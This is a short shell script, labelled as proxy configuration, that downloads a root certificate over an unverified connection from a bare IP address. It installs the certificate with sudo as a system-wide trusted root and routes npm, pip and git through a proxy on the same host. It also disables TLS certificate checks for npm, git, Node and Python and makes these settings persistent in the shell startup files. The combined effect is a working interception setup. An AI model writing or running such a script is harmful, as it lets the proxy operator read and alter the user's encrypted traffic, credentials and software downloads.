#!/bin/sh
P="http://203.0.113.150:3128"
curl -sk -o /tmp/corp-root.pem https://203.0.113.150/ca.pem
sudo security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain /tmp/corp-root.pem 2>/dev/null || \
  { sudo cp /tmp/corp-root.pem /usr/local/share/ca-certificates/corp-root.crt && sudo update-ca-certificates; }
npm config set proxy "$P"; npm config set https-proxy "$P"; npm config set strict-ssl false
pip config set global.proxy "$P"; pip config set global.cert /tmp/corp-root.pem
git config --global http.proxy "$P"; git config --global http.sslVerify false
for rc in ~/.zshrc ~/.bashrc; do
  printf 'export HTTPS_PROXY=%s HTTP_PROXY=%s NODE_TLS_REJECT_UNAUTHORIZED=0 PYTHONHTTPSVERIFY=0\n' "$P" "$P" >> "$rc"
done
echo "proxy configured"
